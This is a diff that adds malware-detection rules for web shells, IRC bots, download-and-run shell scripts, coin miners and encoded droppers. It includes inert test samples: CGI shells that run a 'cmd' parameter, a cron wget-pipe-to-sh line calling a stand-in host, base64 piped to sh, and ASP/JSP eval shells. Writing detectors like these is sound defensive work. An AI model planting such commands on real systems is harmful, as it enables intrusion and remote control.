@@ -44,3 +44,138 @@ rule php_in_picture {
   condition:
     (uint32be(0) == 0x47494638 or uint16be(0) == 0xFFD8 or uint32be(0) == 0x89504E47 or uint16be(0) == 0x424D) and $php and for any of ($does) : ($ in (@php..@php + 20000))
 }
+
+rule code_in_picture_header {
+  meta:
+    id = "polyglot/code-in-picture-header"
+    title = "The header of a picture holds code for a reader elsewhere"
+    family = "polyglot"
+    severity = "critical"
+    confidence = "likely"
+    description = "A text field of a JPEG holds an expression with the e modifier, or encoded code: another file reads it as picture data and runs it."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1027/003/"
+    must_match = "\xff\xd8\xff\xe1\x00Exif\x00\x00/.*/e\x00eval(base64_decode('aW5lcnRpbmVydA=='));"
+    must_not = "\xff\xd8\xff\xe1__Exif__Canon evaluation 64"
+  strings:
+    $modifier = /\/\.\*\/[a-z]{0,3}e/
+    $code = /\b(eval|assert|system|create_function)\s?\(\s?(base64_decode|gzinflate|stripslashes|\$_)/ nocase
+  condition:
+    uint16be(0) == 0xFFD8 and $code and ($modifier or for any of ($code) : ($ in (0..4096)))
+}
+
+rule script_runs_request {
+  meta:
+    id = "script/runs-request"
+    title = "A Perl or Python page runs what the visitor sends as a command"
+    family = "exec-misc"
+    severity = "critical"
+    confidence = "likely"
+    description = "A CGI script gives a field of the request to the shell: a web shell that needs no PHP."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1505/003/"
+    must_match = "#!/usr/bin/perl\n# inert\nuse CGI; my $q = new CGI; my $cmd = $q->param('cmd'); print `$cmd 2>&1`;\n"
+    must_match = "#!/usr/bin/perl\n# inert\nsystem($ENV{'QUERY_STRING'});\n"
+    must_match = "#!/usr/bin/python\n# inert\nimport cgi, os\nform = cgi.FieldStorage()\nos.popen(form.getvalue('cmd'))\n"
+    must_not = "#!/usr/bin/perl\nuse CGI; my $page = param('page'); print `/usr/bin/uptime`; open(MAIL, \"|$mailprog\");\n"
+    must_not = "#!/usr/bin/python\nimport cgi, subprocess\nform = cgi.FieldStorage()\nsubprocess.run(['git', 'pull'])\n"
+  strings:
+    $perl = /^#!\s?[^\n]{1,60}perl/ nocase
+    $python = /^#!\s?[^\n]{1,60}python/ nocase
+    $direct = /\b(system|exec|eval|qx)\s{0,2}[({]?\s{0,2}["'`]?\$ENV\{['"]?(QUERY_STRING|HTTP_\w{1,30})/
+    $field = /\$(\w{1,20})\s{0,2}=\s{0,2}[^;\n]{0,60}(param\s?\(|\$(in|FORM|form|query|input|CGI)\{)\s{0,2}['"]?(cmd|command|exec|execute|shell|run|perintah|komut)\b/ nocase
+    $run = /(\b(system|exec|qx)\s{0,2}[({]\s{0,2}["']?\$\w{1,20}\b|[=\s(]`\s{0,2}(cd[^`;]{0,60}[;&]{1,2}\s{0,2})?\$\w{1,20}|\bopen\s{0,2}\(\s{0,2}\w{1,20}\s{0,2},\s{0,2}["']\(?\s{0,2}(cd[^"';]{0,60};\s{0,2})?\$\w{1,20}[^"'\n]{0,30}\|)/
+    $popen = /\b(os\.(popen\d?|system)|subprocess\.\w{2,14}|commands\.getoutput)\s{0,2}\(\s{0,2}(\w{1,20}(\.getvalue\s?\(|\.getfirst\s?\(|\[['"])|request\.(args|form|values|GET|POST))/
+  condition:
+    filesize < 512KB and (($perl at 0 and ($direct or ($field and $run))) or ($python at 0 and $popen))
+}
+
+rule bot_takes_orders {
+  meta:
+    id = "script/takes-orders-from-a-chat"
+    title = "A script waits in a chat room for commands to run"
+    family = "bot-ddos"
+    severity = "critical"
+    confidence = "likely"
+    description = "The script logs in at an IRC server, answers its questions, and gives what is said there to the shell: a remote-controlled bot."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1071/"
+    must_match = "#!/usr/bin/perl\n# inert\nprint $s \"NICK $n\"; if (/PRIVMSG (.*)/) { my @o = `$1`; } print $s \"PONG $1\";\n"
+    must_not = "<?php class Irc { function nick($n) { $this->send(\"NICK $n\"); $this->send('PONG'); $this->send('PRIVMSG'); } }"
+  strings:
+    $nick = /["']NICK\s/
+    $pong = "PONG" fullword
+    $said = "PRIVMSG" fullword
+    $run = /([=\s(]`\s{0,2}\$\w{1,20}|\b(shell_exec|system|exec|passthru|popen|qx|os\.popen|os\.system|subprocess\.\w{2,12})\s{0,2}[({]\s{0,2}["']?(\$|\w{1,12}\[))/
+    $flood = /\b(udp|tcp|syn|http|slow)_?(flood|attack|ddos)|\bportscan\b|["']!?(udpflood|tcpflood|httpflood)/ nocase
+  condition:
+    filesize < 512KB and $nick and $pong and $said and ($run or $flood)
+}
+
+rule fetched_and_run_again {
+  meta:
+    id = "script/fetches-and-runs"
+    title = "A script fetches a program from a bare address or a timer and runs it"
+    family = "downloader"
+    severity = "high"
+    confidence = "likely"
+    description = "A shell script takes code from an address without a name, out of base64 or by a timer that it sets itself, and gives it to the shell, or digs for coins."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1105/"
+    must_match = "#!/bin/sh\n# inert\n(crontab -l; echo '*/5 * * * * wget -q -O - http://inert.example.test/u | sh') | crontab -\n"
+    must_match = "#!/bin/sh\n# inert\nwget http://192.0.2.1/x -O /tmp/.x; chmod +x /tmp/.x\n"
+    must_match = "#!/bin/sh\n# inert\necho 'aW5lcnRpbmVydGluZXJ0aW5lcnQ=' | base64 -d | sh\n"
+    must_match = "#!/bin/sh\n# inert\nnohup ./x -o stratum+tcp://inert.example.test:3333 &\n"
+    must_not = "#!/bin/sh\ncurl -sS https://example.test/installer | php\n(crontab -l; echo '0 3 * * * /usr/bin/backup') | crontab -\n"
+    must_not = "#!/bin/sh\nwget https://example.test/tool.tar.gz && tar xzf tool.tar.gz && chmod +x tool/run\n"
+  strings:
+    $shell = /^#!\s?\/(usr\/)?bin\/(env )?(ba|da|z|k)?sh\b/
+    $timer = /\*\s\*[^\n]{1,120}\b(curl|wget|lwp-download|fetch)\b[^\n|]{4,300}\|\s{0,2}(ba|da|z)?sh\b/
+    $bare = /\b(curl|wget)\b[^\n]{0,80}https?:\/\/\d{1,3}(\.\d{1,3}){3}[^\n]{0,160}(\|\s{0,2}(ba|da|z)?sh\b|chmod\s{1,3}(\+x|[0-7]*7[0-7]*))/
+    $unpacked = /\becho\s{1,3}(-n\s)?["']?[A-Za-z0-9+\/=]{16,4000}["']?\s{0,2}\|\s{0,2}base64\s{1,2}(-d|-D|--decode)\s{0,2}\|\s{0,2}(ba|da|z)?sh\b/
+    $digs = "stratum+tcp://"
+  condition:
+    $shell at 0 and filesize < 128KB and any of ($timer, $bare, $unpacked, $digs)
+}
+
+rule encoded_script_run {
+  meta:
+    id = "script/encoded-and-run"
+    title = "Encoded Python or Perl is decoded and run"
+    family = "obfuscated-dropper"
+    severity = "high"
+    confidence = "likely"
+    description = "A script carries its real code in base64 or packed, and runs what the decoder gives."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1027/"
+    must_match = "# inert\nimport base64\nexec(base64.b64decode('aW5lcnRpbmVydGluZXJ0'))\n"
+    must_match = "#!/usr/bin/perl\n# inert\nuse MIME::Base64; eval(decode_base64('aW5lcnRpbmVydGluZXJ0'));\n"
+    must_not = "import base64\nimage = base64.b64decode('iVBORw0KGgoAAAANSUhEUg==')\nexec(open('setup.py').read())\n"
+  strings:
+    $python = /\bexec\s{0,2}\(\s{0,2}(compile\s?\(\s?)?(zlib\.decompress|marshal\.loads|base64\.b(64|32|85)decode|bytes\.fromhex|codecs\.decode|__import__\s?\(\s?['"](zlib|base64|marshal|codecs)['"])/
+    $perl = /\beval\s{0,2}\(?\s{0,2}(decode_base64|MIME::Base64::decode|unpack\s?\(?\s?(u|['"][uH]\*?['"]))\s{0,2}[(,]/
+  condition:
+    any of them and filesize < 1MB
+}
+
+rule other_server_pages {
+  meta:
+    id = "script/asp-or-jsp-shell"
+    title = "A page for another kind of server runs what the visitor sends"
+    family = "oneliner-req"
+    severity = "high"
+    confidence = "likely"
+    description = "An ASP, ASPX or JSP page gives a request value to eval or to the shell: placed by someone who tries every kind of server."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1505/003/"
+    must_match = "<%' inert\neval request(\"a\")%>"
+    must_match = "<%/* inert */ Runtime.getRuntime().exec(request.getParameter(\"a\"));%>"
+    must_match = "<%@ Page Language=\"Jscript\"%><%/* inert */ eval(Request.Item[\"a\"],\"unsafe\");%>"
+    must_not = "<% Response.Write(Request(\"a\")) %>"
+  strings:
+    $asp = /<%[^%]{0,80}\b(eval|execute(global)?)[\s(]{1,3}\s{0,2}request\s{0,2}[.("]/ nocase
+    $aspx = /\beval\s{0,2}\(\s{0,2}Request(\.(Item|Form|QueryString))?\s{0,2}\[[^\]]{1,30}\][^)]{0,20}["']unsafe["']/ nocase
+    $jsp = /getRuntime\s{0,2}\(\s{0,2}\)\s{0,2}\.\s{0,2}exec\s{0,2}\(\s{0,2}request\.getParameter/
+  condition:
+    any of them
+}
